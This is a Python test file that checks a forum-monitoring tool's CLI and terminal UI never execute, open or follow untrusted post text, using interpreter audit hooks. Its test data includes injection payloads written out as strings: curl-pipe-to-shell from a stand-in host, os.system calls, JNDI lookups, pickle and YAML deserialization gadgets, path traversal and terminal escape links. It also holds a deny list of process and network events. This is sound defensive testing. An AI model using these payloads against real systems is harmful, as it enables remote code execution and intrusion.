"""What strangers write is not executed, not opened and not followed: the audit events of the
interpreter tell what a run did."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import msgspec
import pytest

from moltwatch.model import Event, Post
from tests.cli.running import START, environment, lines, session

MARK = "conger-eel"
"""Stands in everything that a stranger would have done, and in no name of ours."""

WISHES = (
    f"$(touch {MARK}) `touch {MARK}` ; touch {MARK} | sh && curl https://{MARK}.example/x.sh | sh",
    f"__import__('os').system('touch {MARK}')",
    f"{{{{ ''.__class__.__mro__ }}}} {{% include '{MARK}' %}} ${{jndi:ldap://{MARK}.example/a}}",
    f"![x](https://{MARK}.example/x.png) <img src=https://{MARK}.example> <script src=//{MARK}>",
    f"file:///tmp/{MARK} ../../{MARK} \\\\{MARK}\\share https://127.0.0.1:9/{MARK}",
    f"cos\nsystem\n(S'touch {MARK}'\ntR. !!python/object/apply:os.system ['{MARK}']",
    f"\x1b]8;;https://{MARK}.example\x07 [@click=app.open_url('https://{MARK}.example')]x[/]",
)

WATCHED = """
import atexit, sys
MARK, seen = sys.argv.pop(1), []
NEVER = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork", "os.forkpty",
         "os.startfile", "pty.spawn", "webbrowser.open", "socket.connect", "socket.getaddrinfo",
         "socket.gethostbyname", "urllib.Request", "pickle.find_class")
NEVER_OF_STRANGERS = ("open", "import", "compile", "exec", "glob.glob", "os.remove", "os.mkdir")

def hook(event, arguments):
    if event in NEVER or event in NEVER_OF_STRANGERS and MARK in repr(arguments):
        seen.append(event)

def tell():
    for event in sorted(set(seen)):
        print("DID", event, file=sys.stderr)

sys.addaudithook(hook)
atexit.register(tell)
"""
COMMANDS = """
from moltwatch.cli import cli
for line in sys.argv[1].split(";"):
    cli.main(line.split(), prog_name="moltwatch", standalone_mode=False)
"""
SCREEN = """
import asyncio
from pathlib import Path
import msgspec
from moltwatch.model import Post
from tests.tui.driving import watching
from tests.tui.forum import Forum

async def look():
    events = [msgspec.json.decode(line, type=Post) for line in Path("wishes.posts").open("rb")]
    async with watching(Forum(events, {}), (200, 50)) as watcher:
        for thread in list(watcher.session.threads):
            watcher.main.open_thread(thread)
            await watcher.frames(2)
        watcher.main.thread.view.focus()
        await watcher.press("down", "up", "enter", "i", "escape", "y", "d", "2", "5", "l")
        assert watcher.app.is_running and len(list(watcher.session.threads)) == len(events)

asyncio.run(look())
"""


def wishes() -> list[Event]:
    return [
        Post(
            id=f"w{n}",
            thread=f"w{n}",
            author=text[:60],
            community=text,
            title=text,
            text=text,
            link=f"https://{MARK}.example/{n}",
            url=f"https://{MARK}.example/post/{n}",
            created_at=START + n * 1_000_000,
            seen_at=START + n * 1_000_000,
            source=text,
        )
        for n, text in enumerate(WISHES)
    ]


def done_by(script: str, folder: Path, *arguments: str) -> list[str]:
    """The forbidden things that a script did."""
    (folder / "wishes.jsonl").write_text(lines([*wishes(), *session()]))
    (folder / "wishes.posts").write_bytes(
        b"".join(msgspec.json.encode(post) + b"\n" for post in wishes())
    )
    root = str(Path(__file__).parents[2])
    homes = dict.fromkeys(("XDG_STATE_HOME", "XDG_CACHE_HOME"), str(folder))
    done = subprocess.run(
        [sys.executable, "-c", WATCHED + script, MARK, *arguments],
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=60,
        env=environment(PYTHONPATH=root, **homes),
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert not list(folder.rglob(f"*{MARK}*"))
    return [line[4:] for line in done.stderr.splitlines() if line.startswith("DID ")]


@pytest.mark.parametrize(
    ("script", "event"),
    [
        ("import os; os.system(':')", "os.system"),
        ("import socket; socket.socket(socket.AF_INET, 2).connect(('127.0.0.1', 9))",
         "socket.connect"),
        (f"eval('1 # {MARK}')", "compile"),
    ],
)  # fmt: skip
def test_what_is_done_is_noticed(script: str, event: str, tmp_path: Path) -> None:
    assert event in done_by(script, tmp_path)


def test_commands_execute_open_and_follow_nothing(tmp_path: Path) -> None:
    commands = [
        "flags wishes.jsonl --min-score 0",
        "flags wishes.jsonl --format text --verdicts",
        "flags wishes.jsonl --format csv",
        "report wishes.jsonl",
        "report wishes.jsonl --html page.html",
        "record wishes.jsonl -o kept.molt",
        "convert kept.molt other.jsonl.gz",
    ]
    assert done_by(COMMANDS, tmp_path, ";".join(commands)) == []


def test_the_screen_executes_opens_and_follows_nothing(tmp_path: Path) -> None:
    assert done_by(SCREEN, tmp_path) == []
